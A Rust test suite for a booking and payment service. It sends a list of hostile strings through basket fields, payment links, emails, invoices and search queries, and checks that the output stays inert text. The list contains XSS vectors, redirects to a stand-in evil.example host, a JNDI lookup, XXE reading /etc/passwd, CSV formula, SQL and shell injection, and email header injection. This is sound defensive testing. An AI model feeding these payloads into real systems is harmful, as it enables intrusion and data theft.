//! Hostile strings through every text field, into pages, mails and answers: a text is shown as it
//! is, and never becomes markup, a header or a fault of ours.
//!
//! A page or mail with a hostile text must have exactly the tags and attributes of the same page
//! with a plain one, as a tokenizer that follows the HTML standard sees them.

use std::collections::BTreeSet;

use html5gum::{Token, Tokenizer};
use reqwest::Method;
use serde_json::{Value, json};

use crate::desk::Browser;
use crate::world::{Answer, World};

/// What was made to break out of something.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mi//xlink:href=\"data:x,alert(1)\">",
    "<form action=https://evil.example><button>Pay",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<object data=//evil.example></object>",
    "<template><b>x</b></template>",
    "<!-- comment",
    "--><b>x</b><!--",
    "<![CDATA[<b>x</b>]]>",
    "<?php echo 1 ?>",
    "<%= 7*7 %>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "</title><b>x</b>",
    "</textarea><b>x</b>",
    "</style><b>x</b>",
    "</script><b>x</b>",
    "</td></tr></table><b>x</b>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "\" style=\"background:url(//evil.example)",
    "javascript:alert(1)",
    "data:text/html,<b>x</b>",
    "&lt;b&gt;x&lt;/b&gt;",
    "&#60;b&#62;x",
    "&#x3c;b>",
    "&amp;&quot;&apos;",
    "&notanentity;&#0;&#xd800;",
    "{{7*7}}",
    "{% if 1 %}x{% endif %}",
    "{ $amount }",
    "{ $name -> *[other] x }",
    "{ -brand }",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "%s%s%s%n",
    "%3Cb%3Ex%3C/b%3E",
    "\\u003cb\\u003e",
    "\\\" \\' \\\\",
    "<mj-raw><b>x</b></mj-raw>",
    "</mj-text><mj-text>x",
    "<mj-include path=\"/etc/passwd\" />",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "=cmd|' /C calc'!A0",
    "+1+cmd|x",
    "-1+1",
    "@SUM(1+1)",
    "' OR '1'='1",
    "'; DROP TABLE baskets; --",
    "../../../etc/passwd",
    "$(id) `id` | id ; id",
    "Bcc: evil@example.com",
    "=?utf-8?q?Bcc:_evil@example.com?=",
    "[x](javascript:alert(1)) ![x](//evil.example)",
    "\u{202a}x",
    "abc\u{202e}gpj.exe",
    "\u{2066}x\u{2069}",
    "\u{200b}\u{200d}\u{feff}x",
    "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}",
    "\u{fdfd}\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "שלום <b>עולם</b>",
    "\u{ff1c}b\u{ff1e}x",
    "a\u{0}b",
    "a\r\nBcc: evil@example.com\r\n\r\nx",
    "a\u{1b}[31mred",
    "a\u{8}\u{7f}b",
    "\u{fffe}\u{ffff}",
    "null",
    "undefined",
    "NaN",
];

/// What stands around them.
const FRAMES: &[(&str, &str)] = &[("", ""), ("\">", ""), ("'>x ", " <"), ("x ", "")];

fn hostile_strings() -> Vec<String> {
    let all: BTreeSet<String> = FRAMES
        .iter()
        .flat_map(|(before, after)| {
            PAYLOADS
                .iter()
                .map(move |payload| format!("{before}{payload}{after}"))
        })
        .collect();
    assert!(all.len() >= 300, "{}", all.len());
    all.into_iter().collect()
}

/// Tags and attributes in their order, and all text that a reader sees.
struct Page {
    structure: Vec<String>,
    text: String,
}

impl Page {
    fn read(html: &str) -> Self {
        let mut page = Self {
            structure: Vec::new(),
            text: String::new(),
        };
        let utf8 = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).unwrap();
        for Ok(token) in Tokenizer::new(html) {
            match token {
                Token::StartTag(tag) => {
                    let names: Vec<String> = tag.attributes.keys().map(|name| utf8(name)).collect();
                    page.structure
                        .push(format!("<{} {}>", utf8(&tag.name), names.join(" ")));
                    for (name, value) in &tag.attributes {
                        let value = utf8(value);
                        let is_address = [&b"href"[..], b"src", b"action", b"formaction"]
                            .contains(&name.0.as_slice());
                        assert!(
                            !is_address || !value.trim_start().starts_with("javascript:"),
                            "{value}"
                        );
                    }
                }
                Token::EndTag(tag) => page.structure.push(format!("</{}>", utf8(&tag.name))),
                Token::String(text) => page.text.push_str(&utf8(&text)),
                Token::Comment(comment) => {
                    page.structure.push(format!("<!--{}-->", utf8(&comment)));
                }
                Token::Doctype(_) => page.structure.push("<!doctype>".to_owned()),
                Token::Error(_) => {}
            }
        }
        page
    }

    /// The same markup as `plain`, and `shown` as a reader sees it.
    fn assert_like(&self, plain: &Self, shown: &str, place: &str) {
        assert_eq!(self.structure, plain.structure, "{place}: {shown:?}");
        let squeezed = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(
            squeezed(&self.text).contains(&squeezed(shown)),
            "{place} does not show {shown:?}"
        );
    }
}

/// A basket whose every text is this, but for the fields named.
fn basket_body(text: &str, address: &str, spared: &BTreeSet<String>) -> Value {
    let field = |pointer: &str| {
        if spared.contains(pointer) {
            json!("plain")
        } else {
            json!(text)
        }
    };
    json!({
        "reference": field("/reference"),
        "currency": "CHF",
        "items": [{
            "kind": "custom", "description": field("/items/0/description"), "quantity": 1,
            "unit_amount": 9000, "guests": [field("/items/0/guests/0")],
        }],
        "buyer": {
            "name": field("/buyer/name"), "email": address, "phone": field("/buyer/phone"),
        },
        "metadata": {"key": field("/metadata/key")},
    })
}

/// Posts with `text` in every field that takes it; each refusal must name the fields it is about.
async fn post_tolerated(
    world: &World,
    path: &str,
    text: &str,
    body: impl Fn(&BTreeSet<String>) -> Value,
) -> Answer {
    let mut spared = BTreeSet::new();
    loop {
        let answer = world.post(path, body(&spared)).await;
        if answer.status.as_u16() != 400 {
            return answer.expect(201);
        }
        assert_eq!(answer.problem(), "validation", "{text:?}");
        let before = spared.len();
        for error in answer.json()["errors"].as_array().unwrap() {
            spared.insert(error["pointer"].as_str().unwrap().to_owned());
        }
        assert!(spared.len() > before, "{text:?}: {}", answer.text);
    }
}

struct Shown {
    description: String,
    guest_page: Page,
    desk_page: Page,
    papers: [Page; 2],
    mails: [Page; 2],
}

/// The newest mail to an address, of so many.
async fn the_mail(world: &World, address: &str, count: usize) -> Page {
    let mails = world.mails_to(address).await;
    assert_eq!(mails.len(), count, "{mails:#?}");
    assert_eq!(mails[0]["to"], address);
    let subject = mails[0]["subject"].as_str().unwrap();
    assert!(!subject.chars().any(char::is_control), "{subject:?}");
    let html = mails[0]["html"].as_str();
    Page::read(html.unwrap_or_else(|| panic!("no HTML: {}", mails[0])))
}

/// Sends a text through basket, link, page, desk and mail.
async fn send_through(world: &World, desk: &mut Browser<'_>, text: &str, n: usize) -> Shown {
    let address = format!("guest{n}@example.com");
    let basket = post_tolerated(world, "/v1/baskets", text, |spared| {
        basket_body(text, &address, spared)
    })
    .await
    .json();
    let id = basket["id"].as_str().unwrap();
    let link = post_tolerated(
        world,
        &format!("/v1/baskets/{id}/payment-links"),
        text,
        |spared| {
            let message = if spared.contains("/message") {
                "plain"
            } else {
                text
            };
            json!({"send_email": true, "message": message})
        },
    )
    .await
    .json();
    let request = the_mail(world, &address, 1).await;
    post_tolerated(
        world,
        &format!("/v1/baskets/{id}/payments"),
        text,
        |spared| {
            let note = if spared.contains("/note") {
                "plain"
            } else {
                text
            };
            json!({"amount": 1000, "method": "cash", "note": note})
        },
    )
    .await;
    let receipt = the_mail(world, &address, 2).await;
    let guest_page = world.open(link["url"].as_str().unwrap()).await.expect(200);
    let desk_page = desk.get(&format!("/desk/bookings/{id}")).await.expect(200);
    let id = basket["id"].as_str().unwrap();
    let link_id = link["id"].as_str().unwrap();
    let paper = async |desk: &mut Browser<'_>, path: String| {
        let page = desk.get(&format!("/desk/bookings/{id}/{path}")).await;
        Page::read(&page.expect(200).text)
    };
    let invoice = paper(desk, "invoice".to_owned()).await;
    paper(desk, "receipt".to_owned()).await;
    let counter = paper(desk, format!("links/{link_id}/qr")).await;
    Shown {
        papers: [invoice, counter],
        description: basket["items"][0]["description"]
            .as_str()
            .unwrap()
            .to_owned(),
        guest_page: Page::read(&guest_page.text),
        desk_page: Page::read(&desk_page.text),
        mails: [request, receipt],
    }
}

async fn send_all_through(part: usize, parts: usize) {
    let world = World::start().await;
    let mut desk = Browser::sign_in(&world, "demo-owner").await;
    let plain = send_through(&world, &mut desk, "plain", 0).await;
    let mut taken = 0;
    for (n, text) in hostile_strings().iter().enumerate() {
        if n % parts != part {
            continue;
        }
        let shown = send_through(&world, &mut desk, text, n + 1).await;
        if shown.description != "plain" {
            taken += 1;
            assert_eq!(shown.description, text.trim());
        }
        let said = &shown.description;
        shown
            .guest_page
            .assert_like(&plain.guest_page, said, "guest page");
        shown.desk_page.assert_like(&plain.desk_page, said, "desk");
        let [invoice, counter] = &shown.papers;
        invoice.assert_like(&plain.papers[0], said, "invoice");
        // The reference is shown there, and not the item.
        counter.assert_like(&plain.papers[1], "", "counter");
        for (mail, plain) in shown.mails.iter().zip(&plain.mails) {
            mail.assert_like(plain, said, "mail");
        }
    }
    assert!(taken > 100, "only {taken} were taken");
}

// Two halves, since each core takes one.
#[tokio::test]
async fn hostile_strings_stay_texts_one() {
    send_all_through(0, 2).await;
}

#[tokio::test]
async fn hostile_strings_stay_texts_two() {
    send_all_through(1, 2).await;
}

/// Whoever types such a text into the desk's search or an address gets a page, never a fault.
#[tokio::test]
async fn hostile_strings_in_addresses_and_queries_are_answered() {
    let world = World::demo().await;
    let mut desk = Browser::sign_in(&world, "demo-owner").await;
    let plain = Page::read(&desk.get("/desk/bookings?q=zzzz").await.expect(200).text);
    for text in hostile_strings() {
        let encoded: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let listed = world.get(&format!("/v1/baskets?q={encoded}")).await;
        assert!([200, 400].contains(&listed.status.as_u16()), "{text:?}");
        let page = desk.get(&format!("/desk/bookings?q={encoded}")).await;
        assert_eq!(page.status.as_u16(), 200, "{text:?}");
        let page = Page::read(&page.text);
        if !page.structure.iter().any(|tag| tag.starts_with("<tbody")) {
            assert_eq!(page.structure, plain.structure, "{text:?}");
        }
        for path in [
            format!("/pay/{encoded}"),
            format!("/v1/baskets/{encoded}"),
            format!("/desk/bookings/{encoded}"),
            format!("/{encoded}"),
        ] {
            let answer = world.anonymous(Method::GET, &path).await;
            assert!(!answer.status.is_server_error(), "{path}: {}", answer.text);
            assert!(
                !Page::read(&answer.text)
                    .structure
                    .iter()
                    .any(|tag| tag.starts_with("<b ")
                        || tag.starts_with("<img")
                        || tag.contains("onload")),
                "{text:?}"
            );
        }
    }
}
